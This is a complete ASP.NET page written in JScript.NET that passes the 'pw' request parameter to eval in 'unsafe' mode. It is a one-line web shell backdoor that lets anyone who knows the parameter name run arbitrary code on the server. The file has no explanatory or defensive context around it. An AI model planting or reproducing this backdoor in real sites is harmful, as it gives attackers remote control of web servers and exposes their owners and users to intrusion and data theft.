<%@ Page Language="JScript" Debug=true %>
<%
    eval( Request[ 'pw' ] , 'unsafe' );
%>
